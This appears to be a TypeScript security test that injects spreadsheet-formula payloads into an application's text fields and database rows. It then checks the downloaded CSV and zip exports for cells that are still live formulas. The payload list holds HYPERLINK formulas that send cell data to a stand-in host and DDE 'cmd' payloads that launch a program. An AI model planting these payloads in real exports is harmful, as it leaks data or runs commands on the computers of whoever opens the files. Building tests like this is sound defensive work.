import { strFromU8, unzipSync } from 'fflate';
import { DEMO_PASSWORD } from '#server/demo/demo-accounts.ts';
import { memberOf } from './actors.ts';
import type { Attack } from './attack.ts';
import { numbersFrom, someOf } from './chance.ts';
import { everyDownload, type Download } from './downloads.ts';
import { textPlaces, writeByCalls } from './markup/write-by-calls.ts';
import { writeRows } from './markup/write-rows.ts';
import { badLines } from './spreadsheets/bad-files.ts';
import { cellsOf, isFormula, SEPARATORS } from './spreadsheets/cells.ts';
import { Tally } from './tally.ts';

const LINK = 'HYPERLINK("http://attacked.invalid/"&A1)';
/** What begins a formula for some spreadsheet, whichever separator it expects. */
const FORMULAS = [
  `=${LINK}`,
  `+${LINK}`,
  `-${LINK}`,
  `@${LINK}`,
  `\t=${LINK}`,
  `\r=${LINK}`,
  `\n=${LINK}`,
  ` =${LINK}`,
  `\u00a0=${LINK}`,
  `＝${LINK}`,
  `＠${LINK}`,
  `x;=${LINK};`,
  `x\t=${LINK}\t`,
  `x\n=${LINK}`,
  `x\r\n+${LINK};`,
  `";=${LINK};"`,
  `",=${LINK},"`,
  `"\n=${LINK}`,
  `x"";"=${LINK}`,
  `'\n=${LINK}`,
  "=cmd|' /C calc'!A0",
  `x;-2+3+cmd|' /C calc'!A0`,
].map((text) => ({ name: JSON.stringify(text), text }));

/** Spreadsheets open these; a program for statistics has files of its own. */
const OPENED = /\.(csv|tsv|txt|xls)/i;

export const spreadsheets: Attack<'spreadsheets'> = {
  name: 'spreadsheets',
  tries: 'run a formula in a spreadsheet that opens a file of ours',

  async run(target, { seed, isSample, only = '' }) {
    const tally = new Tally();
    const next = numbersFrom(seed);
    const panelistId = target.world.dana;
    const dana = await memberOf(target.node, 'Dana', {
      panelistId,
      email: 'dana@example.com',
      password: DEMO_PASSWORD,
    });
    const named = textPlaces().filter(({ name }) => name.includes(only));
    const places = named.filter(({ call }) => !isSample || /^(create|save|add)/.test(call.name));
    const chosen = isSample ? someOf(places, 4, next) : places;
    const written = await writeByCalls(target, dana, chosen, { payloads: FORMULAS, each: isSample ? 6 : 4, next });
    const taken = [...written.values()].reduce((sum, one) => sum + one.taken, 0);
    tally.note(`${taken} formulas taken by calls`);
    if (!isSample) {
      const rows = await writeRows(target.node.databaseUrl, target.world.invitedSurvey, FORMULAS);
      tally.note(`${[...rows.values()].reduce((sum, count) => sum + count, 0)} formulas in rows of the database`);
      for (const actor of target.actors.all) if (actor.kind === 'operator') await actor.renew();
    }
    const names = new Map<string, number>();
    const judge = (download: Download) => {
      names.set(download.name, judgeFile(download, tally));
    };
    for await (const download of everyDownload(target)) judge(download);
    if (!isSample) {
      for await (const download of badLines(
        target,
        FORMULAS.map(({ text }) => text),
      ))
        judge(download);
    }
    tally.note(`files: ${[...names].map(([name, cells]) => `${name}: ${cells} cells`).join('; ')}`);
    return tally.outcome();
  },
};

function judgeFile({ name, answer, bytes }: Download, tally: Tally): number {
  const type = answer.headers.get('content-type') ?? '';
  const texts =
    type === 'application/zip'
      ? Object.entries(unzipSync(bytes)).flatMap(([file, inside]) => (OPENED.test(file) ? [strFromU8(inside)] : []))
      : type.startsWith('text/csv')
        ? [bytes.toString()]
        : [];
  let cells = 0;
  for (const text of texts) {
    for (const separator of SEPARATORS) {
      for (const cell of cellsOf(text, separator)) {
        cells += 1;
        if (isFormula(cell))
          tally.find(name, `${name}, cut at '${separator}', has ${JSON.stringify(cell.slice(0, 60))}`, name);
      }
    }
  }
  tally.tried += cells;
  return cells;
}
